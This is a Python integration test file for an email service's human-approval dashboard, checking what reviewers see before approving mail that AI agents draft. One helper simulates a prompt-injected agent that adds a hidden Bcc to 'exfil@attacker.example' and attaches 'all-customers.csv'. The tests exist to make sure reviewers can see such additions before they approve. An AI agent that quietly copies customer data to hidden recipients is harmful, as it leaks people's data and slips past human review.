"""Review of SPEC §8 (dashboard) and the one-click approve page (session 8).

Each test began as a reviewer's strict xfail naming a defect, fixed in the same session.

A real server on loopback with a capturing SMTP relay (the fixtures of
``test_dashboard_http``); httpx plays the browser and posts what a browser would post.
"""

from __future__ import annotations

import base64
import html
import re
from contextlib import closing
from typing import Any

import httpx
from sqlalchemy import select

from multimail.services import notify
from multimail.services.context import Services
from multimail.store.tables import messages
from multimail.testing.server import LiveServer
from tests.integration.test_dashboard_http import (
    Tenant,
    _dashboard_in_app,
    acme,
    live,
    relay,
    send_gated,
    signed_in,
    svc,
)

__all__ = ["_dashboard_in_app", "acme", "live", "relay", "svc"]  # fixtures used here

HIDDEN_BCC = "exfil@attacker.example"
ATTACHMENT = "all-customers.csv"
APPROVE_LINK = re.compile(r"\[Approve\]\((http[^)]+/v1/approve/[^)]+)\)")


def _agent_send(live: LiveServer, tenant: Tenant, payload: dict[str, Any]) -> str:
    with httpx.Client(base_url=live.base_url, timeout=30) as agent:
        response = agent.post(
            f"/v1/mailboxes/{tenant.mailbox['id']}/send",
            headers={"Authorization": f"Bearer {tenant.agent_key}"},
            json={"to": ["jane@example.com"], "subject": "Quote", **payload},
        )
    assert response.status_code == 202, response.text
    assert response.json()["status"] == "pending_send_approval"
    return str(response.json()["id"])


def _draft_with_bcc_and_attachment(live: LiveServer, tenant: Tenant) -> str:
    """What a prompt-injected agent would write: a harmless body, a hidden copy and a file."""
    return _agent_send(
        live,
        tenant,
        {
            "markdown": "Hello Jane, here is the quote.",
            "bcc": [HIDDEN_BCC],
            "attachments": [
                {
                    "filename": ATTACHMENT,
                    "content_base64": base64.b64encode(b"name,email\n").decode(),
                    "content_type": "text/csv",
                }
            ],
        },
    )


def _card(queue_html: str, message_id: str) -> str:
    found = re.search(
        rf'<article class="card" data-message="{message_id}">(.*?)</article>', queue_html, re.S
    )
    assert found, f"the queue has no card for {message_id}"
    return html.unescape(found.group(1))


def _row(services: Services, message_id: str) -> dict[str, Any]:
    with services.db.read() as conn:
        found = conn.execute(select(messages).where(messages.c.id == message_id)).mappings()
        return dict(found.one())


# --- what the reviewer is shown before approving -----------------------------------------------


def test_queue_card_shows_bcc_recipients_and_attachments(
    live: LiveServer, acme: Tenant, svc: Services
) -> None:
    message_id = _draft_with_bcc_and_attachment(live, acme)
    client, _token = signed_in(live, acme)
    with closing(client):
        card = _card(client.get("/dashboard/queue").text, message_id)
    assert f'action="/dashboard/messages/{message_id}/approve"' in card
    missing = [shown for shown in (HIDDEN_BCC, ATTACHMENT) if shown not in card]
    assert not missing, (
        f"the queue card offers Approve without showing {missing}: approving sends the "
        "message to every Bcc recipient with every attachment, so the card must list them"
    )


def test_approval_link_page_shows_bcc_recipients_and_attachments(
    live: LiveServer, acme: Tenant, svc: Services
) -> None:
    message_id = _draft_with_bcc_and_attachment(live, acme)
    with svc.db.read() as conn:
        written = notify.approval_request_mail(conn, svc, message_id)
    assert written is not None
    # The request mail itself lists them too (the file name fenced, never a link).
    assert HIDDEN_BCC in written[1] and ATTACHMENT in written[1], written[1]
    link = APPROVE_LINK.search(written[1])
    assert link, written[1]
    path = "/v1/" + link.group(1).split("/v1/", 1)[1]
    with httpx.Client(base_url=live.base_url, timeout=30) as anon:
        page = anon.get(path)
    assert page.status_code == 200 and '<form method="post"' in page.text
    shown = html.unescape(page.text)
    missing = [item for item in (HIDDEN_BCC, ATTACHMENT) if item not in shown]
    assert not missing, (
        f"the confirmation page's 'Approve and send' hides {missing}: the decision covers "
        "the whole draft (the link's digest includes bcc), so the page must show it"
    )
    assert _row(svc, message_id)["status"] == "pending_send_approval"


# --- the queue -----------------------------------------------------------------------------------


def test_queue_reaches_every_pending_draft(live: LiveServer, acme: Tenant) -> None:
    drafts = [send_gated(live, acme, subject=f"Draft {n}") for n in range(51)]
    oldest = drafts[0]
    client, _token = signed_in(live, acme)
    with closing(client):
        page = client.get("/dashboard/queue").text
        assert "(51) Pending" in page
        seen = page
        for _ in range(5):  # follow "older" links of the queue, if it has any
            older = re.search(r'href="(/dashboard/queue[^"]*cursor=[^"]*)"', page)
            if oldest in seen or older is None:
                break
            page = client.get(html.unescape(older.group(1))).text
            seen += page
    assert oldest in seen, (
        "the queue says 51 drafts wait but shows 50, with no way to reach the oldest one "
        f"({oldest}), which expires first"
    )


# --- Edit & approve ------------------------------------------------------------------------------


def test_untouched_edit_and_approve_is_not_recorded_as_an_edit(
    live: LiveServer, acme: Tenant, svc: Services
) -> None:
    message_id = _agent_send(live, acme, {"markdown": "Dear Jane,\r\nthe quote is attached."})
    client, token = signed_in(live, acme)
    with closing(client):
        page = client.get(f"/dashboard/messages/{message_id}").text
        subject = re.search(r'name="subject" value="([^"]*)"', page)
        assert subject
        # A browser submits an untouched textarea with CRLF line breaks (HTML form encoding).
        approved = client.post(
            f"/dashboard/messages/{message_id}/edit",
            data={
                "csrf_token": token,
                "op": "approve",
                "subject": html.unescape(subject.group(1)),
                "markdown": "Dear Jane,\r\nthe quote is attached.",
            },
        )
    assert approved.status_code == 303, approved.text
    row = _row(svc, message_id)
    assert row["decision"] == "approve" and row["reviewer"] == acme.email
    assert (row["original_markdown"], row["original_subject"]) == (None, None), (
        "the reviewer changed nothing, yet the decision is recorded as an edit of the "
        f"agent's draft (original_markdown={row['original_markdown']!r})"
    )
